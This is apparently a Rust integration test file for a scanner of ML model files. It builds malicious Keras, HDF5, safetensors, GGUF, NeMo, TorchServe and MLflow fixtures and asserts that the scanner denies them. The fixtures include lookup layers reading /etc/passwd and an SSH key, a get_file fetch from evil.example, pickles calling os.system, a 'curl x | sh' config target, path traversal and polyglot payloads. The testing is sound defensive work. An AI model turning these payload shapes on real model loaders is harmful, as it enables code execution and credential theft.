//! Issue 17: Keras safe_mode bypasses, polyglot weight files, and model packages (NeMo,
//! TorchServe, MLflow) read as packages. Every fixture is written byte by byte here; nothing is
//! loaded. Included from integration.rs.

use crate::support::*;
use serde_json::Value;

const CARD: &str = "---\nlicense: mit\n---\n";

/// The findings of `rule` on `path`.
fn on<'a>(r: &'a Value, path: &str, rule: &str) -> Vec<&'a Value> {
    findings(r, rule)
        .into_iter()
        .filter(|f| f["path"] == path)
        .collect()
}

fn denied(r: &Value, path: &str) -> Vec<String> {
    r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] == path && f["action"] == "deny")
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect()
}

fn b64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// A Keras 3 `.keras` archive around `layers` (JSON array text).
fn keras_archive(layers: &str, extra: &[(&str, &[u8])]) -> Vec<u8> {
    let config = format!(
        r#"{{"module": "keras", "class_name": "Functional", "registered_name": null, "config": {{"name": "m", "layers": {layers}}}}}"#
    );
    let mut members: Vec<(&str, &[u8])> = vec![
        (
            "metadata.json",
            br#"{"keras_version": "3.10.0", "date_saved": "2026-01-01@00:00:00"}"#,
        ),
        ("config.json", config.as_bytes()),
        ("model.weights.h5", b""),
    ];
    members.extend_from_slice(extra);
    zip_stored(&members)
}

#[test]
fn issue_17_keras_lookup_vocabulary_file_is_denied_with_layer_and_path() {
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "model.keras",
        keras_archive(
            r#"[{"module": "keras.layers", "class_name": "StringLookup", "registered_name": null,
                 "config": {"name": "lookup", "vocabulary": "/etc/passwd", "mask_token": null}}]"#,
            &[],
        ),
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let f = on(&r, "model.keras", "FMT003");
    let f = f
        .iter()
        .find(|f| f["evidence"]["problem"] == "lookup-file")
        .unwrap();
    assert_eq!(f["action"], "deny");
    assert_eq!(f["evidence"]["layer"], "lookup");
    assert_eq!(f["evidence"]["file"], "/etc/passwd");
    assert_eq!(f["evidence"]["references"][0], "CVE-2025-12058");
    assert!(f["message"].as_str().unwrap().contains("lookup"));
}

#[test]
fn issue_17_keras_in_archive_vocabularies_are_not_denied() {
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "model.keras",
        keras_archive(
            r#"[{"module": "keras.layers", "class_name": "StringLookup", "registered_name": null,
                 "config": {"name": "a", "vocabulary": ["cat", "dog"]}},
                {"module": "keras.layers", "class_name": "TextVectorization", "registered_name": null,
                 "config": {"name": "b", "vocabulary": "assets/vocab.txt", "idf_weights": null}}]"#,
            &[("assets/vocab.txt", b"cat\ndog\n")],
        ),
    );
    let (_, r) = scan_json(repo.path(), &[]);
    assert!(on(&r, "model.keras", "FMT003").is_empty());
    assert!(denied(&r, "model.keras").is_empty());
}

#[test]
fn issue_17_keras_tfsm_layer_get_file_and_unsafe_switch_are_denied() {
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "model.keras",
        keras_archive(
            r#"[{"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": null,
                 "config": {"name": "sm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"}},
                {"module": "keras.utils", "class_name": "get_file", "registered_name": null,
                 "config": {"fname": "x", "origin": "https://evil.example/payload"}},
                {"module": "keras.layers", "class_name": "Activation", "registered_name": null,
                 "config": {"name": "act", "activation": {"module": "keras.config", "class_name": "function",
                   "config": "enable_unsafe_deserialization", "registered_name": "function"}}}]"#,
            &[],
        ),
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let f = on(&r, "model.keras", "FMT003");
    let problem = |code: &str| {
        f.iter()
            .find(|f| f["evidence"]["problem"] == code)
            .unwrap_or_else(|| panic!("no {code} in {f:?}"))
    };
    assert_eq!(
        problem("external-savedmodel")["evidence"]["references"][0],
        "CVE-2026-1462"
    );
    assert_eq!(
        problem("external-savedmodel")["evidence"]["file"],
        "/tmp/attacker_savedmodel"
    );
    assert_eq!(
        problem("file-helper")["evidence"]["callable"],
        "keras.utils.get_file"
    );
    assert_eq!(
        problem("file-helper")["evidence"]["references"][0],
        "CVE-2025-8747"
    );
    assert_eq!(
        problem("unsafe-deserialization")["evidence"]["references"][0],
        "CVE-2025-9906"
    );
    assert!(f.iter().all(|f| f["action"] == "deny"));
}

#[test]
fn issue_17_keras_torch_module_wrapper_pickle_is_denied_with_the_pickles_evidence() {
    // torch.save writes a zip whose data.pkl is the pickled module; this one calls os.system.
    let saved = zip_stored(&[("archive/data.pkl", &pickle_call("os", "system", "id"))]);
    let layers = format!(
        r#"[{{"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": null,
             "config": {{"name": "torch_wrap", "module": "{}", "output_shape": null}}}}]"#,
        b64(&saved)
    );
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file("model.keras", keras_archive(&layers, &[]));
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let fmt = on(&r, "model.keras", "FMT003");
    let wrapper = fmt
        .iter()
        .find(|f| f["evidence"]["problem"] == "embedded-object")
        .unwrap();
    assert_eq!(wrapper["evidence"]["layer"], "torch_wrap");
    assert_eq!(wrapper["evidence"]["references"][0], "CVE-2025-49655");
    let pkl = on(&r, "model.keras", "PKL001");
    assert_eq!(pkl.len(), 1, "{pkl:?}");
    assert_eq!(pkl[0]["action"], "deny");
    assert_eq!(pkl[0]["evidence"]["global"], "os.system");
    let member = pkl[0]["location"]["member"].as_str().unwrap();
    assert!(
        member.starts_with("config.json!/config/layers/0/config/module")
            && member.ends_with("archive/data.pkl"),
        "{member}"
    );
}

/// The test HDF5 writer of `src/inspect/hdf5.rs`: superblock v0 after `user_block` bytes, one
/// v1 root object header holding scalar string attributes.
fn h5_file(user_block: usize, attributes: &[(&str, &[u8])]) -> Vec<u8> {
    fn padded(bytes: &[u8]) -> Vec<u8> {
        let mut out = bytes.to_vec();
        while !out.len().is_multiple_of(8) {
            out.push(0);
        }
        out
    }
    fn message(msg_type: u16, body: &[u8]) -> Vec<u8> {
        let body = padded(body);
        let mut out = msg_type.to_le_bytes().to_vec();
        out.extend((body.len() as u16).to_le_bytes());
        out.extend([0u8; 4]);
        out.extend(body);
        out
    }
    let messages: Vec<Vec<u8>> = attributes
        .iter()
        .map(|(name, value)| {
            let mut name_z = name.as_bytes().to_vec();
            name_z.push(0);
            let mut datatype = vec![0x13, 0, 0, 0];
            datatype.extend((value.len() as u32).to_le_bytes());
            let dataspace = vec![1u8, 0, 0, 0, 0, 0, 0, 0];
            let mut body = vec![1u8, 0];
            body.extend((name_z.len() as u16).to_le_bytes());
            body.extend((datatype.len() as u16).to_le_bytes());
            body.extend((dataspace.len() as u16).to_le_bytes());
            body.extend(padded(&name_z));
            body.extend(padded(&datatype));
            body.extend(padded(&dataspace));
            body.extend(*value);
            message(0x000C, &body)
        })
        .collect();
    let mut out = vec![0u8; user_block];
    out.extend(b"\x89HDF\r\n\x1a\n");
    out.extend([0, 0, 0, 0, 0, 8, 8, 0]);
    out.extend(4u16.to_le_bytes());
    out.extend(16u16.to_le_bytes());
    out.extend(0u32.to_le_bytes());
    let body: Vec<u8> = messages.concat();
    let eof = 96 + 16 + body.len() as u64;
    for addr in [0, u64::MAX, eof, u64::MAX] {
        out.extend(addr.to_le_bytes());
    }
    out.extend(0u64.to_le_bytes());
    out.extend(96u64.to_le_bytes());
    out.extend([0u8; 24]);
    out.extend([1, 0]);
    out.extend((messages.len() as u16).to_le_bytes());
    out.extend(1u32.to_le_bytes());
    out.extend((body.len() as u32).to_le_bytes());
    out.extend([0u8; 4]);
    out.extend(body);
    out
}

#[test]
fn issue_17_legacy_h5_lookup_file_and_torch_wrapper_are_denied() {
    let pickle = b64(&pickle_call("subprocess", "check_output", "id"));
    // A protocol-0 pickle does not start with PROTO: only the TorchModuleWrapper key decodes it.
    let config = format!(
        r#"{{"class_name": "Sequential", "config": {{"name": "s", "layers": [
            {{"class_name": "IntegerLookup", "config": {{"name": "ids", "vocabulary": "../../../../home/user/.ssh/id_rsa"}}}},
            {{"class_name": "TorchModuleWrapper", "config": {{"name": "tw", "module": "{pickle}"}}}}]}}, "keras_version": "2.15.0", "backend": "tensorflow"}}"#
    );
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "model.h5",
        h5_file(
            0,
            &[
                ("keras_version", b"2.15.0"),
                ("backend", b"tensorflow"),
                ("model_config", config.as_bytes()),
            ],
        ),
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    assert_eq!(file(&r, "model.h5")["format"], "keras");
    let fmt = on(&r, "model.h5", "FMT003");
    let lookup = fmt
        .iter()
        .find(|f| f["evidence"]["problem"] == "lookup-file")
        .unwrap();
    assert_eq!(lookup["evidence"]["layer"], "ids");
    assert!(
        fmt.iter()
            .any(|f| f["evidence"]["problem"] == "embedded-object")
    );
    let pkl = on(&r, "model.h5", "PKL001");
    assert_eq!(pkl[0]["evidence"]["global"], "subprocess.check_output");
    assert!(
        pkl[0]["location"]["member"]
            .as_str()
            .unwrap()
            .starts_with("model_config!/config/layers/1/config/module")
    );
}

/// A safetensors file of one U8 tensor holding `data`.
fn weights(data: &[u8]) -> Vec<u8> {
    safetensors(&[("w", "U8", &[data.len() as u64], data)], None)
}

/// Deterministic pseudo-random bytes (xorshift).
fn noise(n: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 32) as u8
        })
        .collect()
}

#[test]
fn issue_17_safetensors_zip_polyglot_is_denied_with_offset() {
    let zip = zip_stored(&[("archive/data.pkl", &pickle_call("os", "system", "id"))]);
    let mut data = noise(4096, 7);
    data.extend(&zip);
    let bytes = weights(&data);
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file("model.safetensors", &bytes);
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    assert_eq!(file(&r, "model.safetensors")["facts"]["valid"], true);
    let f = on(&r, "model.safetensors", "FMT001");
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0]["action"], "deny");
    assert_eq!(f[0]["evidence"]["problem"], "polyglot");
    assert_eq!(f[0]["evidence"]["polyglot"], "zip");
    let start = (bytes.len() - zip.len()).to_string();
    assert_eq!(f[0]["evidence"]["offset"], start.as_str());
}

#[test]
fn issue_17_safetensors_hdf5_polyglot_at_512_is_denied() {
    let h5 = h5_file(0, &[("backend", b"tensorflow")]);
    // Pad the tensor data so the HDF5 superblock lands on the 512-byte user-block boundary.
    let mut pad = 0;
    let bytes = loop {
        let mut data = vec![0u8; pad];
        data.extend(&h5);
        let bytes = weights(&data);
        let start = bytes.len() - data.len();
        if start + pad == 512 {
            break bytes;
        }
        pad = 512 - start;
    };
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file("model.safetensors", &bytes);
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let f = on(&r, "model.safetensors", "FMT001");
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0]["evidence"]["polyglot"], "hdf5");
    assert_eq!(f[0]["evidence"]["offset"], "512");
    assert_eq!(f[0]["location"]["offset"], 512);
}

#[test]
fn issue_17_pickle_after_safetensors_data_is_a_polyglot_with_the_pickles_findings() {
    let mut bytes = weights(&noise(64, 3));
    let end = bytes.len();
    bytes.extend(b"\x80\x02");
    bytes.extend(pickle_call("os", "system", "id"));
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file("model.safetensors", &bytes);
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    assert!(rules_on(&r, "model.safetensors").contains(&"ST001".to_string()));
    let f = on(&r, "model.safetensors", "FMT001");
    assert_eq!(f[0]["evidence"]["polyglot"], "pickle");
    assert_eq!(f[0]["location"]["offset"], end);
    let pkl = on(&r, "model.safetensors", "PKL001");
    assert_eq!(pkl[0]["evidence"]["global"], "os.system");
}

#[test]
fn issue_17_random_tensor_bytes_and_magic_numbers_alone_are_not_polyglots() {
    let repo = Repo::new();
    repo.file("README.md", CARD);
    for seed in 1..6u64 {
        repo.file(
            &format!("m{seed}.safetensors"),
            weights(&noise(300_000, seed)),
        );
    }
    // Magic numbers without a structure behind them.
    let mut data = noise(4096, 9);
    data[512 - 80..512 - 72].copy_from_slice(b"\x89HDF\r\n\x1a\n");
    data.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0\x2e\0\0\0\x05\0\0\0\0\0");
    repo.file("magic.safetensors", weights(&data));
    let (code, r) = scan_json(repo.path(), &[]);
    assert!(
        findings(&r, "FMT001").is_empty(),
        "{:?}",
        findings(&r, "FMT001")
    );
    assert_eq!(code, 0);
}

/// A ustar archive of (name, bytes).
fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, data) in members {
        let mut h = [0u8; 512];
        h[..name.len()].copy_from_slice(name.as_bytes());
        h[100..108].copy_from_slice(b"0000644\0");
        h[108..116].copy_from_slice(b"0000000\0");
        h[116..124].copy_from_slice(b"0000000\0");
        h[124..136].copy_from_slice(format!("{:011o}\0", data.len()).as_bytes());
        h[136..148].copy_from_slice(b"00000000000\0");
        h[148..156].copy_from_slice(b"        ");
        h[156] = b'0';
        h[257..263].copy_from_slice(b"ustar\0");
        h[263..265].copy_from_slice(b"00");
        let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
        h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        out.extend(h);
        out.extend(*data);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.extend([0u8; 1024]);
    out
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(bytes).unwrap();
    enc.finish().unwrap()
}

/// The shape of a NeMo ASR `model_config.yaml` (abridged): ordinary NeMo targets only.
const NEMO_ASR_CONFIG: &str = "sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  normalize: per_feature
  window_size: 0.025
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 17
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 128
optim:
  name: adamw
  lr: 2.0
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
";

#[test]
fn issue_17_nemo_package_config_is_checked_and_weights_inspected() {
    let evil = "preprocessor:\n  _target_: os.system\n  _args_: ['curl x | sh']\n";
    let weights = zip_stored(&[(
        "model_weights/data.pkl",
        &pickle_call("builtins", "exec", "print(1)"),
    )]);
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file(
            "evil.nemo",
            gzip(&tar(&[
                ("./model_config.yaml", evil.as_bytes()),
                ("./model_weights.ckpt", &weights),
            ])),
        )
        .file(
            "asr.nemo",
            tar(&[
                ("./model_config.yaml", NEMO_ASR_CONFIG.as_bytes()),
                ("./model_weights.ckpt", &weights_safe()),
            ]),
        );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let cfg = on(&r, "evil.nemo", "CFG001");
    assert_eq!(cfg.len(), 1, "{cfg:?}");
    assert_eq!(cfg[0]["action"], "deny");
    assert!(
        cfg[0]["location"]["member"]
            .as_str()
            .unwrap()
            .ends_with("./model_config.yaml")
    );
    assert!(!on(&r, "evil.nemo", "PKL001").is_empty());
    assert_eq!(file(&r, "evil.nemo")["facts"]["archive_layout"], "nemo");
    // The real-shaped ASR config: targets named (warn at most), nothing denied.
    assert!(
        denied(&r, "asr.nemo").is_empty(),
        "{:?}",
        denied(&r, "asr.nemo")
    );
    assert_eq!(file(&r, "asr.nemo")["facts"]["archive_layout"], "nemo");
}

/// NeMo's own Conformer-CTC recipe (the real file, see the fixture's header) as the
/// `model_config.yaml` of a `.nemo` package: its `_target_`s are named, nothing is denied.
#[test]
fn issue_17_real_nemo_recipe_config_is_not_denied() {
    let config = std::fs::read(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/nemo/conformer_ctc_bpe.yaml"),
    )
    .unwrap();
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "conformer.nemo",
        tar(&[
            ("./model_config.yaml", &config),
            ("./model_weights.ckpt", &weights_safe()),
        ]),
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 0, "{:#}", r["findings"]);
    assert!(denied(&r, "conformer.nemo").is_empty());
    let targets = r.to_string();
    for t in [
        "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
        "nemo.collections.asr.modules.ConformerEncoder",
        "nemo.collections.asr.modules.ConvASRDecoder",
    ] {
        assert!(targets.contains(t), "{t} is named in the report");
    }
}

/// A PyTorch zip checkpoint of an OrderedDict (benign).
fn weights_safe() -> Vec<u8> {
    zip_stored(&[("archive/data.pkl", &pickle_ordered_dict())])
}

fn manifest(handler: &str) -> String {
    format!(
        r#"{{"createdOn": "01/12/2026 10:00:00", "runtime": "python", "model": {{"modelName": "m",
        "serializedFile": "model.pt", "handler": "{handler}", "modelVersion": "1.0"}}, "archiverVersion": "0.12.0"}}"#
    )
}

#[test]
fn issue_17_torchserve_mar_custom_handler_and_payload_are_reported() {
    let m = manifest("my_handler.py");
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "model.mar",
        zip_stored(&[
            ("MAR-INF/MANIFEST.json", m.as_bytes()),
            ("my_handler.py", b"import os\nos.system('id')\n"),
            (
                "model.pt",
                &zip_stored(&[("archive/data.pkl", &pickle_call("os", "system", "id"))]),
            ),
        ]),
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let f = file(&r, "model.mar");
    assert_eq!(f["facts"]["archive_layout"], "torchserve");
    assert_eq!(f["facts"]["torchserve"]["handler"], "my_handler.py");
    assert_eq!(f["facts"]["torchserve"]["serialized_file"], "model.pt");
    let src = on(&r, "model.mar", "SRC001");
    assert_eq!(src.len(), 1, "{src:?}");
    assert_eq!(src[0]["evidence"]["handler"], "my_handler.py");
    assert_eq!(src[0]["evidence"]["members"][0], "my_handler.py");
    assert!(
        src[0]["message"]
            .as_str()
            .unwrap()
            .contains("my_handler.py")
    );
    assert!(!on(&r, "model.mar", "PKL001").is_empty());
}

#[test]
fn issue_17_torchserve_member_path_traversal_is_arc001() {
    let m = manifest("image_classifier");
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "model.mar",
        zip_stored(&[
            ("MAR-INF/MANIFEST.json", m.as_bytes()),
            ("../../../../tmp/evil.py", b"print(1)\n"),
            ("model.pt", &weights_safe()),
        ]),
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let arc = on(&r, "model.mar", "ARC001");
    assert!(
        arc.iter()
            .any(|f| f["evidence"]["problem"] == "path-traversal"),
        "{arc:?}"
    );
}

#[test]
fn issue_17_torchserve_stock_handler_only_is_not_denied() {
    let m = manifest("image_classifier");
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "resnet.mar",
        zip_stored(&[
            ("MAR-INF/MANIFEST.json", m.as_bytes()),
            ("model.pt", &weights_safe()),
        ]),
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 0, "{:?}", denied(&r, "resnet.mar"));
    assert!(on(&r, "resnet.mar", "SRC001").is_empty());
    assert_eq!(
        file(&r, "resnet.mar")["facts"]["torchserve"]["handler"],
        "image_classifier"
    );
}

const MLMODEL_SKLEARN: &str = "artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.4
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.3.0
mlflow_version: 2.9.2
model_uuid: 0f2b1c3d4e5f46a7b8c9d0e1f2a3b4c5
utc_time_created: '2026-01-01 00:00:00.000000'
";

#[test]
fn issue_17_mlflow_sklearn_model_is_recorded_not_denied() {
    let repo = Repo::new();
    repo.file("model/README.md", CARD)
        .file("model/MLmodel", MLMODEL_SKLEARN)
        .file(
            "model/model.pkl",
            b"\x80\x04csklearn.linear_model._base\nLinearRegression\n)\x81}b.".as_slice(),
        );
    let (code, r) = scan_json(repo.path(), &[]);
    let facts = &file(&r, "model/MLmodel")["facts"]["mlflow"];
    assert_eq!(facts["flavors"][1], "sklearn");
    assert_eq!(facts["model_files"]["sklearn"][0], "model.pkl");
    assert_eq!(facts["loader_module"], "mlflow.sklearn");
    assert!(on(&r, "model/MLmodel", "SRC001").is_empty());
    assert!(denied(&r, "model/MLmodel").is_empty());
    assert_eq!(code, 0, "{}", r["findings"]);
}

#[test]
fn issue_17_mlflow_custom_loader_code_and_python_model_are_custom_code() {
    let mlmodel = "flavors:
  python_function:
    loader_module: evil_loader
    code: code
    python_model: python_model.pkl
    cloudpickle_version: 3.0.0
";
    let repo = Repo::new();
    repo.file("model/README.md", CARD)
        .file("model/MLmodel", mlmodel)
        .file("model/python_model.pkl", pickle_call("os", "system", "id"));
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let src = on(&r, "model/MLmodel", "SRC001");
    let keys: Vec<&str> = src.iter().map(|f| f["message"].as_str().unwrap()).collect();
    assert_eq!(src.len(), 3, "{keys:?}");
    assert!(keys.iter().any(|m| m.contains("evil_loader")));
    assert!(keys.iter().any(|m| m.contains("`code`")));
    assert!(keys.iter().any(|m| m.contains("python_model.pkl")));
    assert!(!on(&r, "model/python_model.pkl", "PKL001").is_empty());
}

/// A GGUF v3 file with one F32 tensor holding `data` (a multiple of 4 bytes).
fn gguf_f32(data: &[u8]) -> Vec<u8> {
    let mut out = b"GGUF".to_vec();
    out.extend(3u32.to_le_bytes());
    out.extend(1u64.to_le_bytes());
    out.extend(0u64.to_le_bytes());
    out.extend(1u64.to_le_bytes());
    out.push(b'w');
    out.extend(1u32.to_le_bytes());
    out.extend((data.len() as u64 / 4).to_le_bytes());
    out.extend(0u32.to_le_bytes());
    out.extend(0u64.to_le_bytes());
    while !out.len().is_multiple_of(32) {
        out.push(0);
    }
    out.extend(data);
    out
}

#[test]
fn issue_17_gguf_zip_polyglot_is_denied_and_real_gguf_files_are_not() {
    let zip = zip_stored(&[("archive/data.pkl", &pickle_ordered_dict())]);
    let mut data = noise(1024 + (4 - zip.len() % 4) % 4, 11);
    data.extend(&zip);
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file("evil.gguf", gguf_f32(&data))
        .file("noise.gguf", gguf_f32(&noise(64 * 1024, 5)))
        .file("tiny.gguf", crate::fixture("gguf/tiny.gguf"));
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let f = on(&r, "evil.gguf", "FMT001");
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0]["evidence"]["polyglot"], "zip");
    assert!(on(&r, "noise.gguf", "FMT001").is_empty());
    assert!(on(&r, "tiny.gguf", "FMT001").is_empty());
}
